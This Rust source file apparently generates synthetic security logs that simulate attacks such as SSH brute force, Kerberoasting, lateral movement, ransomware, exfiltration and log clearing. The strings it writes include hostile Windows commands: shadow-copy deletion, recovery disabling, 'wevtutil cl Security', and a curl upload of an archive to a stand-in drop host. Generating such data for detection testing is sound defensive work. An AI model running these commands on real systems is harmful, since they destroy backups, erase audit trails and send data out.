//! What each attack does, step by step.

use super::super::linux::sshd_password;
use super::super::text;
use super::super::web::automated_access;
use super::super::windows::security::{self, Outcome};
use super::super::windows::{sysmon, system};
use super::order::AttackType;
use super::{Attack, Stage};

const GUESSED: [&[u8]; 4] = [
    b"root",
    b"invalid user admin",
    b"invalid user test",
    b"root",
];
/// RC4, which can be broken offline.
const WEAK_ENCRYPTION: u64 = 0x17;

impl Attack {
    pub(super) fn act(&mut self, step: u32, stage: &mut Stage<'_>) {
        match self.order.attack {
            AttackType::SshBruteforce => return self.guess_password(step, stage),
            AttackType::AccessFlood => {
                let to = (self.host, &*self.address);
                return automated_access(stage.out, stage.world, stage.envelope, to, step);
            }
            AttackType::PasswordSpraying => self.spray(step, stage),
            AttackType::Kerberoasting => self.roast(step, stage),
            AttackType::LateralMovement => self.move_on(step, stage),
            AttackType::Ransomware => self.encrypt(step, stage),
            AttackType::Exfiltration => self.send_out(step, stage),
            AttackType::LogClearing => self.clear_logs(step, stage),
        }
        let Stage {
            world,
            event,
            out,
            envelope,
        } = stage;
        self.kind.write_windows(out, world, event, *envelope);
    }

    fn guess_password(&self, step: u32, stage: &mut Stage<'_>) {
        let login: (&[u8], &[u8]) = if step < self.order.count {
            (b"Failed", GUESSED[step as usize % GUESSED.len()])
        } else {
            (b"Accepted", b"root")
        };
        let at = (self.host, &*self.address);
        sshd_password(stage.out, stage.world, stage.envelope, login, at);
    }

    fn spray(&self, step: u32, stage: &mut Stage<'_>) {
        let (user, outcome) = if step < self.order.count {
            (self.user + step as usize, Outcome::Failure)
        } else {
            (self.user, Outcome::Success)
        };
        security::logon(
            stage.event,
            stage.world,
            self.host,
            user,
            &self.address,
            outcome,
        );
    }

    fn roast(&mut self, step: u32, stage: &mut Stage<'_>) {
        self.text.clear();
        self.text.extend_from_slice(b"svc-");
        text::decimal(&mut self.text, step.into());
        let service = (&*self.text, WEAK_ENCRYPTION);
        security::service_ticket(stage.event, stage.world, self.host, self.user, service);
    }

    /// The machine of a step of an attack that goes from one to the next.
    fn host_of(&self, number: u32) -> usize {
        self.host + number as usize
    }

    fn move_on(&mut self, step: u32, stage: &mut Stage<'_>) {
        let host = self.host_of(step / 3) % stage.world.fleet.host_count();
        match step % 3 {
            0 => {
                let from = self.host_of((step / 3).wrapping_sub(1));
                let from = stage.world.fleet.host(from).address.clone();
                security::logon(
                    stage.event,
                    stage.world,
                    host,
                    self.user,
                    &from,
                    Outcome::Success,
                );
            }
            1 => {
                let service: (&[u8], &[u8]) = (b"TMPSVC", b"%SystemRoot%\\tmpsvc.exe");
                system::service_installed(stage.event, host, service);
            }
            _ => {
                let call: (&[u8], &[u8]) = (
                    b"C:\\Windows\\System32\\cmd.exe",
                    b"C:\\Windows\\System32\\cmd.exe /c whoami.exe /all > \\\\127.0.0.1\\ADMIN$\\Temp\\out.txt 2>&1",
                );
                self.run(host, call, stage);
            }
        }
    }

    fn encrypt(&mut self, step: u32, stage: &mut Stage<'_>) {
        let preparations: [(&[u8], &[u8]); 3] = [
            (
                b"C:\\Windows\\System32\\vssadmin.exe",
                b"vssadmin.exe delete shadows /all /quiet",
            ),
            (
                b"C:\\Windows\\System32\\bcdedit.exe",
                b"bcdedit.exe /set {default} recoveryenabled no",
            ),
            (
                b"C:\\Users\\Public\\invoice-viewer.exe",
                b"C:\\Users\\Public\\invoice-viewer.exe -all -quiet",
            ),
        ];
        if let Some(call) = preparations.get(step as usize) {
            return self.run(self.host, *call, stage);
        }
        self.text.clear();
        self.text
            .extend_from_slice(b"D:\\shares\\projects\\document-");
        text::decimal(&mut self.text, step.into());
        self.text.extend_from_slice(b".psheet.tidelocked");
        let file = Some(&*self.text);
        sysmon::file_created(stage.event, stage.world, self.host, self.slot, file);
    }

    fn send_out(&mut self, step: u32, stage: &mut Stage<'_>) {
        if step == 0 {
            let call: (&[u8], &[u8]) = (
                b"C:\\ProgramData\\stage\\rar.exe",
                b"rar.exe a -r -m5 -v100m -hpHarbor77 C:\\ProgramData\\stage\\all.rar D:\\shares\\projects",
            );
            return self.run(self.host, call, stage);
        }
        if step % 2 == 1 {
            let mut command = std::mem::take(&mut self.text);
            command.clear();
            command.extend_from_slice(b"curl.exe -s -T C:\\ProgramData\\stage\\all.part");
            text::decimal(&mut command, u64::from(step / 2 + 1));
            command.extend_from_slice(b".rar https://drop.pebble-share.example/in/");
            self.run(
                self.host,
                (b"C:\\Windows\\System32\\curl.exe", &command),
                stage,
            );
            self.text = command;
            return;
        }
        let to: (&[u8], &[u8]) = (&self.address, b"drop.pebble-share.example");
        sysmon::connected(stage.event, stage.world, self.host, self.slot, Some(to));
    }

    fn clear_logs(&mut self, step: u32, stage: &mut Stage<'_>) {
        let host = self.host_of(step / 3) % stage.world.fleet.host_count();
        match step % 3 {
            0 => {
                let call: (&[u8], &[u8]) = (
                    b"C:\\Windows\\System32\\wevtutil.exe",
                    b"wevtutil.exe cl Security",
                );
                self.run(host, call, stage);
            }
            1 => security::log_cleared(stage.event, stage.world, host, self.user),
            _ => system::log_cleared(stage.event, stage.world, host, self.user),
        }
    }

    /// Starts a process, which acts from then on. Its place can be taken by a newer one of the
    /// ordinary traffic; then that one acts on its behalf.
    fn run(&mut self, host: usize, call: (&[u8], &[u8]), stage: &mut Stage<'_>) {
        let world = &mut *stage.world;
        let sources = (&world.fleet, &mut world.source);
        self.slot = world.processes.start_called(host, call, self.user, sources);
        sysmon::process_created(stage.event, world, host, self.slot);
    }
}
